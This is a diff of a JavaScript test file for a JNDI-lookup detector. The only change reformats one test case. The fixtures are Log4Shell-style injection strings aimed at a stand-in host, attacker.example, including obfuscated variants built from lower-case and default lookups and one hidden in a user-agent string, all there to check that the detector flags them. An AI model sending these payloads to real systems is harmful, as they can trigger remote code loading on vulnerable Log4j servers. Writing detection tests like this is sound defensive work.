@@ -10,7 +10,12 @@ testDetector(jndiLookup, {
     { text: '${jndi:corbaname::attacker.example#x}', confidence: 'high' },
     { text: '${jndi:nds://attacker.example/x}', confidence: 'high' },
     { text: '${JNDI:LDAPS://attacker.example/x}', confidence: 'high' },
-    { name: 'behind other text', text: 'curl/8.1 (${jndi:ldap://attacker.example/ua})', confidence: 'high', part: '${jndi:ldap://attacker.example/ua}' },
+    {
+      name: 'behind other text',
+      text: 'curl/8.1 (${jndi:ldap://attacker.example/ua})',
+      confidence: 'high',
+      part: '${jndi:ldap://attacker.example/ua}',
+    },
     { name: 'lower case of one letter', text: '${${lower:j}ndi:ldap://attacker.example/a}', confidence: 'high' },
     { name: 'a default of one letter', text: '${jn${::-d}i:ldap://attacker.example/a}', confidence: 'high' },
     { name: 'defaults of unknown lookups', text: '${${a:b:-j}${c:d:-n}${e:-d}${f:-i}:${::-l}dap://attacker.example}', confidence: 'high' },
